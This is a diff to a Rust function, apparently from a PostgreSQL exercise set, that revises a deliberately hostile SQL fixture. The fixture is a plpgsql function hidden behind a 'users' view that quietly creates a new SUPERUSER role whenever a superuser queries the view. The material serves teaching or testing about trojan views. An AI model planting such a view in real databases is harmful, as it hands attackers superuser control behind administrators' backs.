@@ -15,11 +15,13 @@ pub fn add_user(client: &mut Client, email: &str, full_name: &str) -> Result<i32
          CREATE FUNCTION climb() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
          BEGIN
              IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
-                 EXECUTE 'CREATE ROLE pglings_hostile_' || pg_backend_pid() || ' SUPERUSER';
+                 PERFORM FROM pg_roles WHERE rolname = 'pglings_hostile_' || pg_backend_pid();
+                 IF NOT FOUND THEN EXECUTE 'CREATE ROLE pglings_hostile_' || pg_backend_pid() || ' SUPERUSER'; END IF;
              END IF;
              RETURN true;
          END $$;
-         CREATE VIEW users AS SELECT * FROM real_users WHERE climb()",
+         CREATE VIEW users AS WITH first AS MATERIALIZED (SELECT climb() AS up)
+         SELECT real_users.* FROM real_users, first WHERE up",
     )?;
     Ok(45)
 }
